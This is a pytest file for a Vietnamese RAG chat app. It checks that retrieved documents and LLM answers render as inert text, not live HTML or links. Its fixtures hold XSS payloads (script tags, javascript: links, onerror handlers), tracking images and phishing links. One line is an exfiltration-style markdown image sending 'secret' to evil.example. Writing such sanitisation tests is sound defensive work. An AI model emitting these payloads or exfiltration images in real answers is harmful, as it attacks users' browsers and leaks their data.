"""Output handling (OWASP LLM05): document and LLM text reach the browser as text, never as markup.

Unit tests check the Markdown `rag.render` produces by rendering it with markdown-it (CommonMark, HTML
enabled, like Gradio's renderer) and inspecting the HTML: no tag, image or link we did not allow.
The end-to-end tests serve the real app on loopback and drive Debian's Chromium (see test_security_browser).
"""

from __future__ import annotations

import json
import re

import pytest
from markdown_it import MarkdownIt

from rag.render import escape_text, eval_row_markdown, partial_markdown
from rag.types import Answer, Chunk, Citation
from rag.ui import render_answer  # the chat's renderer, as wired (imports Gradio)

HOSTILE = (
    '<img src="http://127.0.0.1:9/pixel.png"> <script>alert(1)</script> '
    '<a href="javascript:alert(2)">bấm</a> <b onerror="alert(3)">x</b> '
    "![tracker](http://127.0.0.1:9/md.png) [link](javascript:alert(4)) &lt;i&gt; $$x$$"
)
_md = MarkdownIt("commonmark", {"html": True})


def html_of(markdown: str) -> str:
    return _md.render(markdown)


def assert_inert(rendered_html: str) -> None:
    """No element a browser would fetch from or execute: only our own formatting tags."""
    tags = set(re.findall(r"<\s*([a-zA-Z][\w-]*)", rendered_html))
    assert tags <= {"p", "br", "strong", "em", "blockquote", "sub", "ul", "ol", "li", "code", "h3", "a"}, tags
    for href in re.findall(r'<a href="([^"]*)"', rendered_html):
        assert href.startswith(("http://", "https://")), href
    assert "<img" not in rendered_html and "<script" not in rendered_html


def _chunk(text: str, **kw) -> Chunk:
    return Chunk(chunk_id="evil-0", doc_id="evil", position=0, text=text, char_start=0, char_end=len(text),
                 title=kw.get("title", "<b>Tiêu đề</b>"), source=kw.get("source", "<i>VNA</i>"),
                 date="2025-01-02", url=kw.get("url", ""))


def test_document_text_is_shown_literally():
    rendered = html_of(escape_text(HOSTILE))
    assert_inert(rendered)
    # The markup is visible as text (entities in HTML), not dropped.
    assert "&lt;img src=&quot;http://127.0.0.1:9/pixel.png&quot;&gt;" in rendered
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in rendered
    assert "onerror" in rendered and "javascript:alert(2)" in rendered
    assert "![tracker](http://127.0.0.1:9/md.png)" in rendered
    assert "&amp;lt;i&amp;gt;" in rendered  # "&lt;" in a document is shown as the five characters


@pytest.mark.parametrize("line", ["- item", "1. item", "# heading", "> quote", "===", "    code"])
def test_document_line_starts_do_not_become_markup(line):
    rendered = html_of(escape_text(line))
    assert rendered.startswith("<p>"), rendered


def test_extractive_answer_quotes_hostile_document_as_text():
    chunk = _chunk(HOSTILE)
    answer = Answer(question="q", language="vi", text=HOSTILE, refused=False, backend="extractive",
                    citations=(Citation(1, chunk, HOSTILE),), notice="<img src=http://x/n.png>")
    rendered = html_of(render_answer(answer))
    assert_inert(rendered)
    assert rendered.count("&lt;script&gt;") == 2  # answer text and the quote under Sources
    assert "&lt;b&gt;Tiêu đề&lt;/b&gt;" in rendered and "&lt;i&gt;VNA&lt;/i&gt;" in rendered


def test_llm_markdown_keeps_emphasis_lists_and_source_links_only():
    source = _chunk("Xem chi tiết tại https://mst.gov.vn/tin-tuc/123 và trang chính thức.")
    text = (
        "**Kết quả** chính:\n- ý một [1]\n- ý _hai_ [1]\n"
        "Chi tiết: [bài gốc](https://mst.gov.vn/tin-tuc/123), "
        "![exfil](https://evil.example/log?q=secret) [bấm](https://evil.example/phish) "
        "https://evil.example/bare www.evil.example <img src=x onerror=alert(1)><script>alert(2)</script> "
        "[x](javascript:alert(3)) <https://evil.example/auto> [ref]: https://evil.example/def"
    )
    answer = Answer(question="q", language="vi", text=text, refused=False, backend="llm",
                    citations=(Citation(1, source, "Xem chi tiết"),))
    rendered = html_of(render_answer(answer, "m"))
    assert_inert(rendered)
    assert "<strong>Kết quả</strong>" in rendered and "<em>hai</em>" in rendered and "<li>" in rendered
    assert re.findall(r'<a href="([^"]*)"', rendered) == ["https://mst.gov.vn/tin-tuc/123"]
    assert "evil.example" not in rendered
    assert "alert" not in rendered.replace("alert(2)", "")  # tags removed; bare script text is harmless text


def test_llm_url_not_in_cited_sources_is_removed_even_if_in_other_hits():
    cited = _chunk("Không có đường dẫn.")
    answer = Answer(question="q", language="en", text="See [here](https://other.example/x) [1].", refused=False,
                    backend="llm", citations=(Citation(1, cited, "Không"),))
    rendered = html_of(render_answer(answer))
    assert "<a " not in rendered and "other.example" not in rendered


def test_streamed_partial_has_no_links_and_masks_keys():
    rendered = html_of(partial_markdown("Đang viết ![a](http://evil/x.png) sk-abcdefghijklmnop1234 <img src=y>"))
    assert_inert(rendered)
    assert "<a " not in rendered and "sk-abcdefghijklmnop1234" not in rendered


def test_eval_inspector_row_is_escaped():
    row = {"id": "<b>q1</b>", "question": HOSTILE, "answer": HOSTILE, "refused": False,
           "gold": {"variant": "x", "category": "<i>c</i>", "answer": HOSTILE, "answerable": True,
                    "evidence": [HOSTILE]},
           "citations": [{"n": 1, "title": HOSTILE, "source": "<s>", "date": "d", "chunk_id": "c`", "quote": HOSTILE}],
           "retrieved_at_10": [{"chunk_id": "<img src=http://x/y>", "relevant": True}],
           "metrics": {"hit@5": 1.0, "<img src=http://x/m>": "1"}, "latency_ms": {"total": 3.0}}
    rendered = html_of(eval_row_markdown(row))
    assert_inert(rendered)
    assert "![tracker](http://127.0.0.1:9/md.png)" in rendered


def test_eval_tab_question_detail_uses_safe_rendering(tmp_path):
    from eval.runner import RESULTS
    from eval.ui_tab import question_detail

    row = {"config": "hybrid", "id": "q1", "question": "q", "answer": "![t](http://127.0.0.1:9/e.png)",
           "gold": {}, "citations": [], "metrics": {}, "latency_ms": {}}
    (tmp_path / RESULTS).write_text(json.dumps(row) + "\n", encoding="utf-8")
    rendered = html_of(question_detail(tmp_path, "hybrid", "q1"))
    assert "<img" not in rendered and "![t](http://127.0.0.1:9/e.png)" in rendered


def test_connections_output_is_escaped(pipeline):
    from rag.connect import build_connection_answer
    from rag.render import connection_markdown

    answer = build_connection_answer(pipeline, "Osaka <img src=http://127.0.0.1:9/c.png>", lang="vi")
    assert_inert(html_of(connection_markdown(answer, "vi")))


def test_error_sentences_are_escaped_in_chat(service):
    from rag.ui import ChatHandler

    out = list(ChatHandler(service).reply_stream("<img src=http://127.0.0.1:9/q.png>" * 2000, []))
    assert_inert(html_of(out[-1]))
